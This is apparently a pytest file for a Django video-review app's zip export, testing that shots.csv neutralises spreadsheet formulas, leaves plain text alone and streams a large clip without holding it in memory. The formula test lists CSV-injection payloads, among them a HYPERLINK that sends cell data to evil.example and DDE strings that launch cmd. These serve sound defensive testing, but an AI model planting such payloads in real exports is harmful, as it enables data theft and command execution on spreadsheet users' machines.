"""The export archive: what shots.csv lets a spreadsheet do, and what building the zip costs."""

import csv
import io
import os
import tracemalloc
import zipfile

import pytest
from django.core.files.base import ContentFile

from briefs.models import Take
from review import services
from review.export import build_export
from tests.factories.review import board_brief
from tests.factories.users import director

pytestmark = pytest.mark.django_db


def approved_brief(*, clip: bytes | None = None, **take_fields):
    brief = board_brief(shots=1)
    take = Take.objects.get(shot__brief=brief)
    Take.objects.filter(pk=take.pk).update(**take_fields)
    take.refresh_from_db()
    if clip is not None:
        take.media.save("big.mp4", ContentFile(clip), save=True)
    services.decide(take=take, user=director(), verdict="approved", expected_version=1)
    return brief, take


def shots_rows(archive) -> list[dict]:
    with zipfile.ZipFile(archive.file) as zipped:
        text = zipped.read("shots.csv").decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "prompt",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_shots_csv_shows_a_formula_as_text(prompt):
    # Given an approved take whose prompt a spreadsheet would run as a formula
    brief, _ = approved_brief(prompt=prompt)

    # When the cut is exported
    archive = build_export(brief=brief, user=brief.producer)

    # Then the cell keeps the prompt but starts with a quote, so it is shown, not run
    assert shots_rows(archive)[0]["prompt"] == "'" + prompt


def test_shots_csv_leaves_ordinary_text_alone():
    brief, _ = approved_brief(prompt="A pier at dusk - wide, 'quoted'")

    archive = build_export(brief=brief, user=brief.producer)

    row = shots_rows(archive)[0]
    assert row["prompt"] == "A pier at dusk - wide, 'quoted'"
    assert row["cost"] == "0.0000"


def test_export_copies_media_without_holding_a_clip_in_memory():
    # Given an approved take with a 24 MB clip
    brief, _ = approved_brief(clip=os.urandom(24 * 1024 * 1024))

    # When the cut is exported
    tracemalloc.start()
    try:
        archive = build_export(brief=brief, user=brief.producer)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    # Then the zip is on disk, never the clip (or the zip) in memory, and it holds the whole clip
    assert peak < 8 * 1024 * 1024
    with zipfile.ZipFile(archive.file) as zipped:
        assert zipped.getinfo("media/shot-01-take-01.mp4").file_size == 24 * 1024 * 1024
    archive.file.close()
